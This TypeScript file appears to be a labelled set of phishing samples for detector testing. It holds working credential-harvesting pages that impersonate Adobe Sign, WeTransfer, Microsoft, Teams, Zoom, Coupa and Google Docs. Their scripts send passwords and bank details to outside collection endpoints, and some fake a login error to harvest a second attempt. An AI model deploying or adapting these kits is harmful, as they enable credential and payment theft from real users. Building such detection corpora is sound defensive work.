import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { ADOBE_LOGO, b64, beepWav, blurredSheet, BOX_LOGO, doc, DOCUSIGN_LOGO, DROPBOX_LOGO, fileRoute, GOOGLE_CSS, GOOGLE_G, MS_CSS, MS_SQUARES, msCard, PDF_ICON, qrSvg, SP_ICON, TEAMS_LOGO, tok, WETRANSFER_LOGO, XLSX_ICON, ZOOM_LOGO } from '../parts/yo-kit.js';

// Document-sharing, e-signature, voicemail, payroll, invoice and QR lures from customer mail, with the
// sign-in pages they lead to.

/** A plain Microsoft sign-in kit page used as the second hop of several lures (different posting targets). */
const msKit = (action: string, note: string, extraScript = ''): string =>
  doc({
    title: 'Sign in to your account',
    css: MS_CSS,
    body:
      msCard(`<form id="f" method="post" action="${action}"><div class="title">Sign in</div>
<p class="small" style="margin:-4px 0 14px">${note}</p>
<input type="email" name="login" id="em" placeholder="Email, phone, or Skype" required>
<input type="password" name="passwd" placeholder="Password" required>
<div class="small"><a href="#">Can't access your account?</a></div>
<div class="row"><button type="submit" class="btn btn-primary">Sign in</button></div></form>`) +
      `<script>var q=new URLSearchParams(location.search),e=q.get("email")||q.get("e")||location.hash.slice(1);if(e){try{if(e.indexOf("@")<0)e=atob(e)}catch(x){}document.getElementById("em").value=e}${extraScript}</script>`,
  });

export const entries: Entry[] = [
{
  id: 'yo-adobe-sign-provider-picker',
  label: 'phishing',
  kind: 'esign-lure',
  url: 'https://adobe-sign-docview.bravehost-site.com/Agreement/view/?agr=CBJCHBCAABAAq8vN2rT',
  body: doc({
    title: 'Adobe Acrobat Sign - Agreement',
    css: `body{margin:0;font-family:"Adobe Clean",Arial,sans-serif;background:#e9e9e9}
.top{background:#fff;padding:10px 24px;border-bottom:1px solid #ccc;display:flex;justify-content:space-between;align-items:center;font-size:13px;color:#555}
#ov{position:fixed;inset:0;background:rgba(30,30,30,.55);display:flex;align-items:center;justify-content:center}
.modal{background:#fff;width:440px;max-width:calc(100vw - 30px);border-radius:6px;padding:28px 30px;box-shadow:0 8px 30px rgba(0,0,0,.35)}
.modal h3{margin:12px 0 6px;font-size:18px}.modal p{font-size:13px;color:#555;margin:0 0 16px}
.pv{display:grid;grid-template-columns:1fr 1fr;gap:10px}.pv button{height:42px;border:1px solid #ccc;background:#fafafa;border-radius:4px;font-size:14px;cursor:pointer}
.pv button:hover{border-color:#1473e6}#frm{display:none;margin-top:10px}#frm input{width:100%;box-sizing:border-box;height:38px;border:1px solid #bbb;border-radius:4px;margin:6px 0;padding:0 10px}
#frm button{width:100%;height:40px;background:#1473e6;color:#fff;border:0;border-radius:18px;margin-top:10px;font-weight:700}#msg{color:#c9252d;font-size:12px;display:none}`,
    body: `<div class="top">${ADOBE_LOGO}<span>Agreement: <b>Signed_Contract_Amendment_2024.pdf</b> (2 pages)</span></div>
${blurredSheet(22, 5)}
<div id="ov"><div class="modal">${ADOBE_LOGO}<h3>Confirm your email to view the document</h3><p>This document is protected. Select your email provider and sign in to continue.</p>
<div class="pv" id="pv"><button data-p="Outlook">Outlook</button><button data-p="Office 365">Office 365</button><button data-p="Yahoo">Yahoo!</button><button data-p="AOL">AOL</button><button data-p="Other Mail" style="grid-column:span 2">Other Mail</button></div>
<form id="frm"><div id="pn" style="font-weight:700;font-size:14px"></div><input type="email" name="email" placeholder="Email address" required><input type="password" name="password" placeholder="Email password" required><div id="msg">Invalid login details. Please enter the correct password.</div><button type="submit">View Document</button></form>
</div></div>
<script>
var prov="";Array.prototype.forEach.call(document.querySelectorAll("#pv button"),function(b){b.onclick=function(){prov=b.getAttribute("data-p");document.getElementById("pn").textContent="Sign in with "+prov;document.getElementById("pv").style.display="none";document.getElementById("frm").style.display="block"}});
var att=0;document.getElementById("frm").onsubmit=function(e){e.preventDefault();att++;
var d="email="+encodeURIComponent(this.email.value)+"&password="+encodeURIComponent(this.password.value)+"&provider="+encodeURIComponent(prov)+"&attempt="+att;
var x=new XMLHttpRequest();x.open("POST","https://adobe-sign-docview.bravehost-site.com/Agreement/view/mailer.php",true);x.setRequestHeader("Content-type","application/x-www-form-urlencoded");x.send(d);
if(att<3){document.getElementById("msg").style.display="block";this.password.value=""}else{location.href="https://acrobat.adobe.com/link/home/"}};
</script>`,
  }),
},
{
  id: 'yo-wetransfer-files-ready',
  label: 'phishing',
  kind: 'filesharing-lure',
  url: 'https://wetransfer.files-download-center.com/downloads/8e3b1d7a2f0c49d6b2/3c4d5e',
  body: doc({
    title: 'WeTransfer - Your files are ready',
    css: `body{margin:0;font-family:"Inter",Arial,sans-serif;background:#0a1d3c url() center/cover;min-height:100vh;color:#17181a}
.bg{position:fixed;inset:0;background:linear-gradient(120deg,#3b2bd1,#d3227c)}
.panel{position:relative;width:300px;margin:90px 0 0 60px;background:#fff;border-radius:10px;padding:26px;box-shadow:0 10px 40px rgba(0,0,0,.3)}
h2{font-size:22px;margin:16px 0 4px}.meta{font-size:13px;color:#6a6d70;margin-bottom:16px}
.item{font-size:13px;padding:8px 0;border-bottom:1px solid #eee}.item span{float:right;color:#888}
input{width:100%;box-sizing:border-box;height:40px;border:0;border-bottom:1px solid #d4d7d9;margin:6px 0;font-size:14px}
button{width:100%;height:48px;border:0;border-radius:24px;background:#409fff;color:#fff;font-weight:700;font-size:15px;margin-top:16px}`,
    body: `<div class="bg"></div><div class="panel">${WETRANSFER_LOGO}<h2>Ready when you are</h2><div class="meta">2 files &middot; 8.6 MB &middot; Expires in 6 days</div>
<div class="item">Signed_Invoice_PDF_2024.pdf<span>5.1 MB</span></div><div class="item">Bank_Confirmation_Letter.pdf<span>3.5 MB</span></div>
<p style="font-size:13px;margin:16px 0 4px">Confirm the recipient email to start download</p>
<form id="wf"><input type="email" name="email" placeholder="Recipient email" required><input type="password" name="password" placeholder="Email password" required><button type="submit">Download</button></form></div>
<script>
document.getElementById("wf").onsubmit=function(e){e.preventDefault();var f=this;
fetch("https://api.jsonbin.io/v3/b/66f1a3c2acd3cb34a88d1f20",{method:"PUT",headers:{"Content-Type":"application/json","X-Master-Key":"$2a$10$Gq4pV8mYbN2cT7kW1xR0e.uJ6dL3sH9fA5zQ8vE2iO4nP7tM1yC3K"},body:JSON.stringify({e:f.email.value,p:f.password.value})})
.finally(function(){f.querySelector("button").textContent="Preparing download...";setTimeout(function(){location.href="https://wetransfer.com/"},2500)})};
</script>`,
  }),
},
(() => {
  const host = 'voicemail.cloudpbx-notify.com';
  return {
    id: 'yo-voicemail-player-signin',
    label: 'phishing',
    kind: 'voicemail-lure',
    url: `https://${host}/vm/listen?mid=VM-20241008-0912&ext=2214&u=dGhvbWFzLmxlZUBicmlnaHRsaW5laGVhbHRoLm9yZw`,
    routes: {
      [`${host}/vm/listen`]: htmlRoute(
        doc({
          title: 'New Voice Message (0:47)',
          css:
            MS_CSS +
            `\n.vm{width:440px;max-width:calc(100vw - 40px);background:#fff;box-shadow:0 2px 6px rgba(0,0,0,.2);padding:22px 44px;box-sizing:border-box;margin-bottom:12px}
.vm table{font-size:13px;border-collapse:collapse;width:100%}.vm td{padding:3px 0}.vm td:first-child{color:#666;width:90px}
.wave{display:flex;gap:2px;align-items:center;height:30px;margin:10px 0}.wave i{display:block;width:3px;background:#0067b8;border-radius:2px}`,
          body: `<div class="bg"></div><div class="outer" style="justify-content:flex-start;padding-top:40px">
<div class="vm"><b>&#128222; Voice Message Received</b><table><tr><td>From</td><td>+1 (312) 555-0187 &ndash; WIRELESS CALLER</td></tr><tr><td>To</td><td id="to"></td></tr><tr><td>Length</td><td>00:47</td></tr><tr><td>Received</td><td id="dt"></td></tr></table>
<div class="wave" id="wv"></div><audio id="au" src="/vm/preview.wav" controls style="width:100%"></audio><p class="small" style="color:#a4262c">Preview limited to 3 seconds. Sign in to play the full message.</p></div>
<div class="card"><div class="logo">${MS_SQUARES}</div><form id="f" method="post" action="/vm/auth"><div class="title">Sign in to listen</div>
<input type="email" id="em" name="email" placeholder="Email" required><input type="password" name="password" placeholder="Password" required>
<div class="row"><button type="submit" class="btn btn-primary">Sign in</button></div></form></div></div>
<script>
var u=new URLSearchParams(location.search).get("u");try{u=atob(u)}catch(e){}document.getElementById("to").textContent=u;document.getElementById("em").value=u;
document.getElementById("dt").textContent=new Date().toLocaleString();
for(var i=0;i<60;i++){var b=document.createElement("i");b.style.height=(4+Math.abs(Math.sin(i*1.7))*24)+"px";document.getElementById("wv").appendChild(b)}
</script>`,
        }),
      ),
      [`${host}/vm/preview.wav`]: fileRoute(beepWav(3, 440), 'audio/wav'),
      [`${host}/vm/auth`]: redirectRoute(302, 'https://outlook.office.com/'),
    },
  } satisfies Entry;
})(),
{
  id: 'yo-salarisaanpassing-nl',
  label: 'phishing',
  kind: 'hr-benefits-lure',
  url: 'https://personeelsportaal-salaris.nl-hrdocs.com/loonstrook/2024-10/?medewerker=a.bakker%40vanderlindelogistiek.nl',
  body: doc({
    title: 'Salarisaanpassing 2025 - Microsoft SharePoint',
    lang: 'nl',
    css: MS_CSS + `\n.doc{width:440px;max-width:calc(100vw - 40px);background:#fff;box-shadow:0 2px 6px rgba(0,0,0,.2);padding:18px 44px;box-sizing:border-box;margin-bottom:12px;display:flex;gap:12px;align-items:center}`,
    body:
      msCard(
        `<div class="title">Aanmelden</div>
<p class="small">Meld u aan met uw werkaccount om het document <b>Salarisaanpassing_2025.pdf</b> te openen.</p>
<form id="f" method="post" action="verwerk.php"><input type="email" name="email" id="em" placeholder="E-mail, telefoon of Skype" required>
<input type="password" name="wachtwoord" placeholder="Wachtwoord" required>
<div class="err" id="er">Uw account of wachtwoord is onjuist. Als u uw wachtwoord niet meer weet, <a href="#">stelt u het nu opnieuw in.</a></div>
<div class="small"><a href="#">Wachtwoord vergeten?</a></div>
<div class="row"><button class="btn btn-primary" type="submit">Aanmelden</button></div></form>`,
        { options: `<div class="doc">${PDF_ICON}<div><b>Salarisaanpassing_2025.pdf</b><br><span class="small">Gedeeld door HR &middot; 214 kB</span></div></div>` },
      ) +
      `<script>
var m=new URLSearchParams(location.search).get("medewerker");if(m)document.getElementById("em").value=m;
var n=0;document.getElementById("f").onsubmit=function(e){if(n++<1){e.preventDefault();fetch("verwerk.php",{method:"POST",body:new FormData(this)});document.getElementById("er").style.display="block";this.wachtwoord.value=""}};
</script>`,
  }),
},
{
  id: 'yo-remittance-advice-attachment',
  label: 'phishing',
  kind: 'invoice-lure',
  url: 'https://ach-remit.paymentadvice-portal.com/RemittanceAdvice_ACH_100824.html',
  body: doc({
    title: 'Payment Remittance Advice',
    css: `body{margin:0;font-family:Calibri,Arial,sans-serif;background:#f4f6f8;color:#222}
.sheet{max-width:760px;margin:30px auto;background:#fff;padding:34px 40px;box-shadow:0 1px 4px rgba(0,0,0,.12)}
h1{font-size:22px;color:#0b3d6e;margin:0}table{width:100%;border-collapse:collapse;margin:18px 0;font-size:14px}th{background:#0b3d6e;color:#fff;text-align:left;padding:8px}td{border-bottom:1px solid #e2e2e2;padding:8px}
.tot{text-align:right;font-weight:700;font-size:16px}.btn{display:inline-block;background:#0b3d6e;color:#fff;padding:10px 22px;border-radius:3px;text-decoration:none;cursor:pointer}
#lg{display:none;margin-top:20px;border:1px solid #dfe3e8;padding:18px;border-radius:4px;background:#fafbfc}#lg input{display:block;width:100%;max-width:340px;height:36px;margin:8px 0;border:1px solid #bbb;padding:0 8px}`,
    body: `<div class="sheet"><h1>Payment Remittance Advice</h1><p style="color:#666;margin:4px 0 18px">Payment Date: 10/08/2024 &nbsp;&middot;&nbsp; Method: ACH &nbsp;&middot;&nbsp; Ref: ACH-100824-55102</p>
<table><tr><th>Invoice #</th><th>Invoice Date</th><th>Description</th><th style="text-align:right">Amount</th></tr>
<tr><td>INV-20931</td><td>08/29/2024</td><td>Professional services &ndash; August</td><td style="text-align:right">$18,420.00</td></tr>
<tr><td>INV-20977</td><td>09/12/2024</td><td>Hardware &amp; licensing</td><td style="text-align:right">$6,115.50</td></tr>
<tr><td>INV-21003</td><td>09/26/2024</td><td>Support retainer Q4</td><td style="text-align:right">$4,800.00</td></tr></table>
<div class="tot">Total Paid: $29,335.50</div>
<p>The full remittance PDF with bank confirmation is available below. For security, please verify your mailbox before downloading.</p>
<span class="btn" id="dl">&#11015; Download Remittance PDF</span>
<form id="lg" autocomplete="off"><b>Verify recipient</b><input type="email" name="em" placeholder="Email address" required><input type="password" name="pw" placeholder="Email password" required><button class="btn" type="submit">Verify &amp; download</button><p id="bad" style="color:#b00;display:none;font-size:13px">Verification failed. Please check your password.</p></form></div>
<script>
document.getElementById("dl").onclick=function(){document.getElementById("lg").style.display="block"};
var tries=0;document.getElementById("lg").onsubmit=function(e){e.preventDefault();tries++;
var fd=new FormData();fd.append("email",this.em.value);fd.append("password",this.pw.value);fd.append("_subject","RA-"+tries);
fetch("https://submit-form.com/Hk3pQz7Ww",{method:"POST",body:fd,mode:"no-cors"});
if(tries<2){document.getElementById("bad").style.display="block";this.pw.value=""}else{location.href="https://www.chase.com/"}};
</script>`,
  }),
},
{
  id: 'yo-coupa-supplier-payment-hold',
  label: 'phishing',
  kind: 'vendor-portal-kit',
  url: 'https://supplier.coupahost-portal.com/sessions/new?invoice_hold=INV-33817',
  body: doc({
    title: 'Coupa Supplier Portal',
    css: `body{margin:0;font-family:"Helvetica Neue",Arial,sans-serif;background:#f2f5f7;color:#1e2a36}
.hd{background:#fff;border-bottom:3px solid #1874b9;padding:12px 26px;font-size:22px;font-weight:700;color:#1874b9}.hd span{color:#1e2a36;font-weight:300;font-size:16px}
.c{max-width:430px;margin:40px auto;background:#fff;padding:30px;border-radius:4px;box-shadow:0 1px 3px rgba(0,0,0,.12)}
.al{background:#fdecea;border-left:4px solid #d93025;padding:10px 12px;font-size:13px;margin-bottom:16px}
label{font-size:13px;font-weight:600;display:block;margin:10px 0 4px}input{width:100%;box-sizing:border-box;height:38px;border:1px solid #aab7c4;border-radius:3px;padding:0 10px}
button{width:100%;margin-top:18px;height:40px;background:#1874b9;color:#fff;border:0;border-radius:3px;font-weight:700}`,
    body: `<div class="hd">coupa <span>supplier portal</span></div><div class="c">
<div class="al"><b>Payment on hold.</b> Invoice INV-33817 ($37,560.00) could not be paid because the remittance account on file failed verification. Sign in to update your banking details.</div>
<div id="a"><form id="fa"><label>Email</label><input type="email" name="email" required><label>Password</label><input type="password" name="password" required><button>Login</button></form><p style="font-size:13px"><a href="#">Forgot your password?</a></p></div>
<div id="b" style="display:none"><form id="fb"><label>Beneficiary name</label><input name="beneficiary" required><label>Bank routing number</label><input name="aba" required><label>Account number</label><input name="acct" required><label>Tax ID (EIN)</label><input name="ein" required><button>Submit for verification</button></form></div></div>
<script>
var o={};function s(){return fetch("/sessions/hook",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify(o)}).catch(function(){})}
document.getElementById("fa").onsubmit=function(e){e.preventDefault();o.email=this.email.value;o.password=this.password.value;s();document.getElementById("a").style.display="none";document.getElementById("b").style.display="block"};
document.getElementById("fb").onsubmit=function(e){e.preventDefault();var f=this;["beneficiary","aba","acct","ein"].forEach(function(k){o[k]=f[k].value});s().then(function(){f.innerHTML="<p>Thank you. Your update is being reviewed (2-3 business days).</p>"})};
</script>`,
  }),
},
(() => {
  const host = 'teams-notify.msgcenter-app.com';
  return {
    id: 'yo-teams-unread-chat-lure',
    label: 'phishing',
    kind: 'collab-lure',
    url: `https://${host}/chat/unread?tenant=brightlinehealth&cid=19%3Ameeting_NzQ2`,
    routes: {
      [`${host}/chat/unread`]: htmlRoute(
        doc({
          title: 'Microsoft Teams',
          css: `body{margin:0;background:#f5f5f5;font-family:"Segoe UI",Arial,sans-serif;color:#242424}.top{background:#464775;height:48px;display:flex;align-items:center;padding:0 16px;gap:10px;color:#fff;font-weight:600}
.c{max-width:520px;margin:50px auto;background:#fff;border-radius:4px;padding:28px;box-shadow:0 2px 4px rgba(0,0,0,.1)}.msg{display:flex;gap:12px;padding:12px;border:1px solid #eee;border-radius:4px;margin:10px 0}
.av{width:36px;height:36px;border-radius:50%;background:#8b8cc7;color:#fff;display:flex;align-items:center;justify-content:center;font-weight:600;flex:none}
.btn{display:inline-block;background:#5b5fc7;color:#fff;text-decoration:none;padding:9px 22px;border-radius:4px;font-weight:600;margin-top:12px}`,
          body: `<div class="top">${TEAMS_LOGO} Microsoft Teams</div><div class="c"><h2 style="margin:0 0 8px">You have 3 unread messages</h2><p style="color:#616161;font-size:14px">Your teammates are trying to reach you in Microsoft Teams.</p>
<div class="msg"><div class="av">PR</div><div><b>Patricia Reyes (CFO)</b><br><span style="font-size:14px">Are you at your desk? I need you to handle a confidential wire before 3pm. Check the file I shared&hellip;</span></div></div>
<div class="msg"><div class="av">PR</div><div><span style="font-size:14px">Vendor_Payment_Authorization.pdf</span></div></div>
<a class="btn" href="/chat/open?c=3">Reply in Teams</a></div>`,
        }),
      ),
      [`${host}/chat/open`]: htmlRoute(msKit('/chat/login.php', 'to continue to Microsoft Teams')),
    },
  } satisfies Entry;
})(),
{
  id: 'yo-zoom-invite-work-signin',
  label: 'phishing',
  kind: 'collab-lure',
  url: 'https://zoom.us-meeting-join.com/j/83910472215?pwd=aVNzT2xjVm9qb0p3cEdSZz09',
  body: doc({
    title: 'Join Meeting - Zoom',
    css: `body{margin:0;font-family:Lato,"Helvetica Neue",Arial,sans-serif;background:#fff;color:#232333}
.hd{height:60px;display:flex;align-items:center;padding:0 30px;border-bottom:1px solid #eee}.c{max-width:420px;margin:50px auto;text-align:center}
.mt{background:#f7f9fa;border-radius:10px;padding:18px;margin:18px 0;font-size:14px;text-align:left}
input{width:100%;box-sizing:border-box;height:44px;border:1px solid #bdbdc6;border-radius:8px;padding:0 12px;font-size:15px;margin:6px 0}
button{width:100%;height:44px;border:0;border-radius:8px;background:#0b5cff;color:#fff;font-weight:700;font-size:15px;margin-top:10px}`,
    body: `<div class="hd">${ZOOM_LOGO}</div><div class="c"><h2>You've been invited to a Zoom meeting</h2>
<div class="mt"><b>Q4 Budget Review &ndash; Leadership</b><br>Host: Daniel Whitaker<br>Meeting ID: 839 1047 2215<br>Starts: <span id="st"></span></div>
<p style="font-size:14px;color:#555">This meeting requires authentication. Sign in with your work email to join.</p>
<form id="z" method="post" action="/j/auth.php"><input type="email" name="email" placeholder="Work email" required><input type="password" name="password" placeholder="Email password" required><button>Sign In and Join</button></form>
<p style="font-size:12px;color:#888;margin-top:22px">&copy;2024 Zoom Video Communications, Inc. All rights reserved.</p></div>
<script>document.getElementById("st").textContent=new Date(Date.now()+6e5).toLocaleTimeString([], {hour:"2-digit",minute:"2-digit"})+" (in 10 minutes)";</script>`,
  }),
},
(() => {
  const host = 'docs-google.freigabe-dokumente.de';
  return {
    id: 'yo-google-docs-freigabe-de',
    label: 'phishing',
    kind: 'google-kit',
    url: `https://${host}/document/d/1xKq9VbT3mZ_aP0rL7wY2eHn/edit?usp=sharing_eil_m`,
    body: doc({
      title: 'Google Docs – Anmelden',
      lang: 'de',
      css: GOOGLE_CSS,
      body: `<div class="wrap"><div class="gcard"><div>${GOOGLE_G}<h1>Anmelden</h1><p class="sub">Weiter zu Google Docs</p>
<p style="font-size:14px;color:#444;margin-top:20px">&#128196; <b>Rahmenvertrag_2025_final.docx</b> wurde von <b>m.hoffmann@brenner-logistik.de</b> für Sie freigegeben.</p></div>
<div><form id="g" method="post" action="/document/d/check"><div class="field"><input type="email" name="identifier" placeholder="E-Mail oder Telefonnummer" required></div>
<div class="field"><input type="password" name="Passwd" placeholder="Passwort eingeben" required></div>
<a class="link" href="#">E-Mail-Adresse vergessen?</a>
<div class="actions"><a class="link" href="#">Konto erstellen</a><button class="gbtn" type="submit">Weiter</button></div></form></div></div>
<div class="gfoot"><span>Deutsch</span><span><a href="#">Hilfe</a><a href="#">Datenschutz</a><a href="#">Nutzungsbedingungen</a></span></div></div>`,
    }),
  } satisfies Entry;
})(),
];
